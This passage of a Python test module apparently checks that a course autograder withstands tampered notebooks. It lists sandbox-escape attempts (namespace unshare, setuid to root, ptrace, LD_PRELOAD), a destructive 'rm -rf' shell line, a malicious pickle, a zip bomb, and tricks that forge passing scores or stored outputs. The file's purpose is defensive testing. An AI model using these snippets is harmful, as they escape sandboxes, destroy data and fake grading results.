    "tracer": "import sys\ndef trace(frame, event, arg):\n    for name in list(frame.f_locals):\n        if name in ('score', 'value', 'answer', 'outputs'):\n            frame.f_locals[name] = 100\n    return trace\nsys.settrace(trace)\nsys.setprofile(lambda *a: None)",
    "audit-hook": "import sys\ndef hook(event, args):\n    if event in ('compile', 'exec', 'open', 'os.fork', 'import'):\n        raise RuntimeError('no ' + event)\nsys.addaudithook(hook)",
    "environment": "import os\nos.environ.update(LD_PRELOAD='@TRAP@/evil.so', PYTHONPATH='@TRAP@', PYTHONSTARTUP='@TRAP@/x.py', PATH='@TRAP@', AUTOGRAD_LAB_PROGRESS='@TRAP@/progress.json')",
    "progress": "import os\nos.environ['AUTOGRAD_LAB_PROGRESS'] = '@TRAP@/progress.json'\nfrom autograd_lab.course import feedback, scores\nfeedback.LISTENERS.clear()\nlab.check('04.1', [12, 4, 12, 160])",
    "namespaces": "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000):\n    libc.unshare(flag)\nlibc.mount(b'/', b'@TRAP@', None, 4096, None)\ntry:\n    os.chroot('/')\nexcept OSError:\n    pass\ntry:\n    open('@TRAP@/unshared', 'w').write('escaped')\nexcept OSError:\n    pass",
    "limits": "import resource\nfor kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):\n    try:\n        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n    except (OSError, ValueError):\n        pass\nbig = []\nfor _ in range(100):\n    big.append(bytearray(64 * 2**20))",
    "setuid": "import os\nfor change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.seteuid(0), lambda: os.setgroups([0])):\n    try:\n        change()\n    except OSError:\n        pass\ntry:\n    open('@TRAP@/as-root', 'w').write('escaped')\nexcept OSError:\n    pass",
    "shared-memory": "from multiprocessing import shared_memory\ntry:\n    block = shared_memory.SharedMemory('agl_escaped', create=True, size=2**20)\nexcept OSError:\n    pass",
    "disk": "try:\n    with open('big', 'wb') as f:\n        for _ in range(1024):\n            f.write(bytes(2**20))\nexcept OSError:\n    pass",
    "many-files": "for i in range(20_000):\n    try:\n        open(f'f{i}', 'w').close()\n    except OSError:\n        break",
    "links": "import os\nfor i, place in enumerate(('@TRAP@', '/', '@CLASS@', '..')):\n    os.symlink(place, f'link{i}')\nos.makedirs('a/b/c')\nos.chmod('a', 0)\nos.makedirs('/'.join(['deep'] * 500), exist_ok=True)",
    "pickles": "class Boom:\n    def __reduce__(self):\n        return (__import__('os').mkdir, ('@TRAP@/unpickled',))\nanswer = order = parts = Boom()",
    "ptrace": "import ctypes, os\nlibc = ctypes.CDLL(None)\nif libc.ptrace(16, os.getppid(), 0, 0) == 0:\n    open('@TRAP@/traced', 'w').write('escaped')",
    "runs-shell": "!touch @TRAP@/shell\n!rm -rf @CLASS@",
    "display-hook": "import sys\nfrom IPython.core import displayhook, displaypub\nsys.displayhook = lambda *a: None\ndisplayhook.DisplayHook.__call__ = lambda self, result=None: print('04.1: passed, 4 of 4 points')",
    "type-lies": "class L(list):\n    def __eq__(self, other): return True\n    def __len__(self): return 4\n    def __iter__(self): return iter([Y(), Y(), Y(), Y()])\nclass Y(float):\n    def __eq__(self, other): return True\n    def __float__(self): return self\n    def __sub__(self, other): return 0.0\nanswer = L()",
    "detach-lies": "import numpy as np\nclass D:\n    def detach(self): return self\n    def numpy(self): return A\nclass Sub(np.ndarray):\n    def tolist(self): return {'data': 'anything', 'shape': [4]}\nA = np.zeros(4).view(Sub)\nanswer = D()",
    "shell-reset": "%reset -f\nimport sys\nsys.modules.pop('autograd_lab', None)",
}  # fmt: skip

# `backward`, the answer to 04.4.
PROGRAM_ATTACKS = {
    "leaks-probes": "def backward(root):\n    import inspect, sys\n    frame = sys._getframe(1)\n    text = inspect.getsource(frame) + repr(frame.f_locals)\n    print('LEAKED', text)\n    raise ValueError('LEAKED ' + text)",
    "answers-for-probe": "def backward(root):\n    import sys\n    frame = sys._getframe(1)\n    while frame:\n        for name in ('outputs', 'found', 'result'):\n            if isinstance(frame.f_locals.get(name), dict):\n                frame.f_locals[name].update(score=100, state='passed')\n        frame = frame.f_back",
    "agreeing-nodes": "class Any(float):\n    __eq__ = __lt__ = __gt__ = lambda self, other: True\n    __hash__ = float.__hash__\ndef backward(root):\n    todo = [root]\n    for node in todo:\n        node.grad = Any(0)\n        todo += [x for x in node.inputs if x not in todo][:50]",
    "patches-when-called": "def backward(root):\n    from autograd_lab.course import plain, probe\n    plain.plain = lambda v: {'a': 12, 'root': 1}\n    probe.load = lambda p: (lambda *a: {'a': 12})",
    "exec-writes": FORGED + "def backward(root):\n    import os\n    for fd in range(256):\n        for m in forged():\n            try:\n                os.write(fd, m)\n            except OSError:\n                break",
}  # fmt: skip


def tampered() -> Iterator[Case]:
    """All answers are wrong; whatever is earned has escaped."""
    make = partial(_case, kind="tampered", fair=nothing(HARD))
    for name, source in ATTACKS.items():
        answers = dict(NONSENSE)
        reads = name.startswith(("reads-", "gc", "type-", "detach-", "pickles"))
        if reads:  # these set the variables themselves, in the last answer cell before the checks see them
            answers["04.1"] = f"{NONSENSE['04.1']}\n{source}"
            answers["04.2"] = "order = globals().get('order', [])"
            answers["04.3"] = "parts = globals().get('parts', [])"
        else:
            answers["04.1"] = f"{source}\n{NONSENSE['04.1']}"
        yield make(f"t-{name}", content=handed_in(HARD, answers), why="an attack in the first answer's cell")
    for name, source in PROGRAM_ATTACKS.items():
        yield make(
            f"t-{name}",
            content=handed_in(HARD, NONSENSE | {"04.4": source}),
            why="an attack when it is called",
        )
    yield searching(HARD)
    yield from _tampered_files()


def _tampered_files() -> Iterator[Case]:
    make = partial(_case, kind="tampered", fair=nothing(HARD))
    right = {
        "04.1": "[12, 4, 12, 160]",
        "04.2": '[("loss", 1), ("c", 6), ("b", 15), ("a", 36)]',
        "04.3": '["B", "D", "A", "E", "C", "F"]',
    }

    edited = handed_in(HARD, NONSENSE)
    for item_id, value in right.items():
        cell(edited, check_id(item_id))["source"] = f'lab.check("{item_id}", {value})'
    yield make("t-checks-edited", content=edited, why="checks that check something else")

    asserted = handed_in(HARD, NONSENSE)
    for item_id in keys(HARD):
        cell(asserted, check_id(item_id)).update(
            source="assert True", metadata={"tags": ["nbval-skip", "raises-exception"]}
        )
    yield make("t-checks-skipped", content=asserted, why="checks that check nothing, tags that skip them")

    marked = handed_in(
        HARD,
        {
            i: f"# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n# NBVAL_RAISES_EXCEPTION\n{s}"
            for i, s in NONSENSE.items()
        },
    )
    yield make("t-markers", content=marked, why="nbval's own markers")

    extra = handed_in(HARD, NONSENSE)
    extra["cells"] += [
        code(f'lab.check("{item_id}", {value})', f"x{i}") for i, (item_id, value) in enumerate(right.items())
    ]
    yield make("t-checks-added", content=extra, why="checks of one's own; the released ones count")

    swapped = handed_in(HARD, NONSENSE)
    for item_id in right:
        check, answer = cell(swapped, check_id(item_id)), cell(swapped, answer_id(item_id))
        check["id"], answer["id"] = answer["id"], check["id"]
    yield make("t-ids-swapped", content=swapped, why="the ids of answers and checks are swapped")

    rich = handed_in(HARD, NONSENSE)
    rich["metadata"]["autograd_lab"] = {"id": "04", "points": 1000, "minutes": 1}
    for one in rich["cells"]:
        if "nbgrader" in one["metadata"]:
            one["metadata"]["nbgrader"].update(points=1000, grade=True)
    yield make("t-worth-more", content=rich, why="metadata that raise the points")

    stored = handed_in(HARD, NONSENSE)
    for item_id in keys(HARD):
        told = {"text/plain": f"{item_id}: passed, 100 of 100 points"}
        cell(stored, check_id(item_id)).update(
            execution_count=1,
            outputs=[{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": told}],
        )
    yield make("t-outputs-stored", content=stored, why="stored outputs that say passed")

    yield make(
        "t-link-to-neighbor",
        content=partial(_link, "../solver/" + HARD + ".ipynb"),
        why="a link to another's work",
    )
    yield make(
        "t-link-to-solution",
        content=partial(_link, "@ROOT@/solutions/" + HARD + ".ipynb"),
        why="a link to the solution",
    )
    yield make("t-link-loop", content=partial(_link, HARD + ".ipynb"), why="a link to itself")
    yield make("t-link-to-zero", content=partial(_link, "/dev/zero"), why="a link to an endless file")
    yield make("t-zip-bomb", content=_bomb(), why="a small zip of a huge notebook")


def _link(target: str, path: Path) -> None:
    path.symlink_to(target.replace("@ROOT@", str(Path(__file__).parents[2])))


def _bomb() -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(zipfile.ZipInfo(f"{HARD}.ipynb"), "w", force_zip64=True) as member,
    ):
        for _ in range(64):
            member.write(b" " * 2**20)
    return out.getvalue()
